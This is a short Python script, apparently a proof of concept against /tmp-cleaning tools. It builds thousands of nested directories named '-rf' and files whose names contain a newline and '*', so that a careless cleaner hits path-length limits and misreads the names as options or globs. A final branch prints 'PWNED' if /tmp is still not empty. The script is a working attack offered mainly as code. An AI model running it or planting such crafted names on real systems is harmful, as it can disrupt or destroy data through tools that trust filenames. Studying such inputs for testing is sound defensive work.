# Deeper than any path may be long, and with names that a careless cleaner reads as options.
import os, sys
if sys.argv[1] == "attack":
    os.chdir("/tmp")
    for number in range(6000):
        os.mkdir("-rf")
        os.chdir("-rf")
    for number in range(200): open(f"{number}\n*", "w").close()
elif os.listdir("/tmp"):
    print("PWNED")
